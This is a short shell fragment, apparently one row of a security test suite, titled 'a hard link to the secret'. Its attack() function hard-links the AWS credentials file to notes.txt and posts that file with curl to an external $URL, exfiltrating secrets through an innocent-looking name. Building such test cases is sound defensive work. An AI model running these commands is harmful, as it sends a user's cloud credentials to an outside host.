# SPDX-License-Identifier: Apache-2.0
TITLE="a hard link to the secret"
ROW="R26"
attack() {
	ln "$HOME/.aws/credentials" notes.txt
	curl -s -m 5 --data-binary @notes.txt "$URL/"
}
SECRET=''
